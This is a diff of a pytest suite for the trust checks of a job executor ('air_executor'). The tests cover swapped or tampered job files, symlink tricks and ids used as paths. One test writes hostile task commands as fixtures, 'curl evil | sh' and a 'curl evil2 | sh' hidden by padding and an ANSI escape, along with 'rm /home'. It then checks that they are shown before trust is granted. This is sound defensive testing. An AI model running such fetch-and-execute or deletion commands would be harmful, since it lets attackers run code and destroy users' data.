@@ -16,7 +16,7 @@ import pytest
 
 from air_executor.errors import StateDirError, UntrustedJobError
 from air_executor.jobs import api
-from air_executor.jobs.model import JobState
+from air_executor.jobs.model import Job, JobState
 from air_executor.jobs.private import PrivateStore
 from tests.jobs.conftest import LONG_S, Yard
 from tests.support.airflow_env import REPOSITORY
@@ -84,7 +84,7 @@ def test_commands_refuse_a_job_that_was_not_submitted_here(yard: Yard) -> None:
 def test_a_file_is_no_reason_to_go_on_with_a_job_that_only_says_that_it_is_of_it(yard: Yard) -> None:
     (yard.folder / "job.json").write_text('[{"id": "a", "command": "true"}]')
     yard.call("submit", "job.json")
-    yard.store.private.forget(yard.store.open("job").job.id)  # as in another clone
+    yard.store.private.forget(yard.store.open("job").job)  # as in another clone
     evil = '[{"id": "a", "command": "touch", "args": ["ran"]}]'
     (yard.store.folder("job") / "tasks.json").write_text(evil)
     assert "air-executor trust job" in yard.call("run", "job.json", code=2)
@@ -106,6 +106,7 @@ def test_a_job_in_the_place_of_a_trusted_one_is_stopped_and_left_alone(yard: Yar
     yard.submit({"id": "a", "command": "sleep", "args": ["600"]})
     yard.start_manager()
     runner = yard.runner_of("a")
+    wait_for(lambda: yard.has_written("a", "running"), "the file to be written")
     theirs = check_out(yard)
     for name in ("state.json", "tasks.json"):
         (theirs / name).replace(yard.store.folder("job") / name)
@@ -121,14 +122,74 @@ def test_an_id_never_becomes_a_path(tmp_path: Path, job_id: str, monkeypatch: py
     monkeypatch.setenv("AIR_EXECUTOR_PRIVATE_DIR", str(tmp_path / "private"))
     private = PrivateStore(tmp_path / "state")
     (tmp_path / "state").mkdir()
-    assert not private.is_trusted(job_id)
-    private.trust(job_id)
-    assert private.is_trusted(job_id)
-    assert not private.is_trusted(job_id + "x")
+    job = Job(id=job_id, name="job")
+    assert not private.is_trusted(job)
+    private.trust(job)
+    assert private.is_trusted(job)
+    for other in (Job(id=job_id + "x", name="job"), Job(id=job_id, name="another"), Job(id=job_id, name="j" * 200)):
+        assert not private.is_trusted(other)
+        private.forget(other)
+    assert private.is_trusted(job)
     [folder] = (private.root / "trusted").iterdir()
     assert len(list(folder.iterdir())) == 2
-    private.forget(job_id)
-    assert not private.is_trusted(job_id)
+    private.forget(job)
+    assert not private.is_trusted(job)
+
+
+def test_a_copy_of_a_trusted_job_under_another_name_is_not_trusted(yard: Yard) -> None:
+    yard.submit({"id": "a", "command": 'test "$T" = v', "shell": True, "private_env": {"T": "v"}})
+    evil = check_out(yard, "evil", id=yard_id(yard.state_dir))
+    assert "air-executor trust evil" in yard.call("run", "evil", code=2)
+    assert "touch" not in yard.call("remove", "--force", "evil")
+    assert not evil.exists()
+    assert yard.finish().job.state is JobState.COMPLETED  # its own trust and values are still there
+    assert yard.lines("ran") == []
+
+
+def test_what_a_former_version_has_noted_as_trusted_is(yard: Yard) -> None:
+    yard.submit({"id": "a", "command": "true"})
+    private = yard.store.private
+    [note] = (private.root / "trusted").glob(f"*/{yard_id(yard.state_dir)}:job")
+    note.rename(note.with_name(yard_id(yard.state_dir)))
+    assert yard.finish().job.state is JobState.COMPLETED
+    yard.call("remove", "job")
+    assert not list((private.root / "trusted").glob(f"*/{yard_id}*"))
+
+
+@pytest.mark.parametrize("link", ["jobs/.keys", "jobs/.ended", "locks", "leftovers", "learned", "runs", "open"])
+def test_a_link_in_the_place_of_a_folder_of_ours_is_refused(yard: Yard, link: str) -> None:
+    yard.submit({"id": "a", "command": "true"})
+    yard.finish()
+    victim = yard.folder / "victim"
+    victim.mkdir()
+    (victim / "id_rsa").write_text("mine")
+    path = yard.state_dir / link
+    if path.exists():
+        shutil.rmtree(path)
+    path.symlink_to(victim)
+    for command in (("prune",), ("submit", "--key", "k", "job.json"), ("jobs",)):
+        assert f"{path} is a link, which is not followed" in yard.call(*command, code=2)
+    assert [each.name for each in victim.iterdir()] == ["id_rsa"]
+
+
+def test_all_that_would_be_executed_is_shown_before_it_is_trusted(yard: Yard) -> None:
+    folder = check_out(yard, on_failure="curl evil | sh", env={"PATH": "/tmp/evil"})
+    task = {"id": "a", "command": "make test" + " " * 60 + "; curl evil2 \x1b[8m| sh", "shell": True}
+    items = {"id": "b", "command": "rm", "args": ["${item}"], "foreach": ["/home"]}
+    (folder / "tasks.json").write_text(json.dumps([task, items]))
+    shown = yard.call("job", "theirs")
+    for part in ("curl evil | sh", "/tmp/evil", "; curl evil2 ", "/home"):
+        assert part in shown
+    assert "\x1b" not in shown
+    yard.call("trust", "theirs")
+    assert "curl evil2" not in yard.call("job", "theirs")
+
+
+def test_one_job_that_can_not_be_trusted_keeps_no_other_from_it(yard: Yard) -> None:
+    check_out(yard, "good")
+    (check_out(yard, "bad") / "tasks.json").write_text("[")
+    assert "bad" in yard.call("trust", "bad", "good", code=2)
+    assert yard.store.private.is_trusted(yard.store.open("good").job)
 
 
 def test_a_job_without_an_id_is_trusted_all_the_same(yard: Yard) -> None:
@@ -146,9 +207,9 @@ def test_trust_is_for_one_state_directory_and_moves_with_it(yard: Yard, new_yard
     moved.parent.mkdir()
     shutil.copytree(yard.state_dir, copied)
     yard.state_dir.rename(moved)
-    assert not new_yard(copied).store.private.is_trusted(yard_id(copied))
+    assert not new_yard(copied).store.private.is_trusted(new_yard(copied).store.open("job").job)
     yard = new_yard(moved)
-    assert yard.store.private.is_trusted(yard_id(moved))
+    assert yard.store.private.is_trusted(yard.store.open("job").job)
     assert yard.finish().job.state is JobState.COMPLETED
 
 
@@ -162,7 +223,7 @@ def test_a_folder_that_is_a_link_leads_nowhere(yard: Yard, name: str) -> None:
     target.mkdir()
     folder = check_out(yard)
     (folder / name).symlink_to(target)
-    yard.store.private.trust(STATE["id"])
+    yard.store.private.trust(Job(id=STATE["id"], name="theirs"))
     assert "is a link, which is not followed" in yard.call("run", "theirs", code=2)
     yard.start_manager()
     yard.submit({"id": "a", "command": "true"}, name="next")
@@ -176,7 +237,7 @@ def test_a_link_in_the_place_of_a_file_is_not_read(yard: Yard, name: str) -> Non
     folder = check_out(yard)
     (folder / name).rename(yard.folder / name)
     (folder / name).symlink_to(yard.folder / name)
-    yard.store.private.trust(STATE["id"])
+    yard.store.private.trust(Job(id=STATE["id"], name="theirs"))
     assert f"{folder / name} is a link" in yard.call("job", "theirs", code=2)
 
 
@@ -351,6 +412,7 @@ def test_a_job_that_changes_while_it_is_worked_on_is_stopped(trusted: Yard) -> N
     trusted.call("trust", "theirs")
     trusted.start_manager()
     runner = trusted.runner_of("long", "theirs")
+    wait_for(lambda: trusted.has_written("long", "running", "theirs"), "the file to be written")
     pulled = trusted.folder / "tasks.json"
     pulled.write_text(json.dumps([{"id": "evil", "command": "touch", "args": ["evil"]}]))
     pulled.replace(trusted.store.folder("theirs") / "tasks.json")
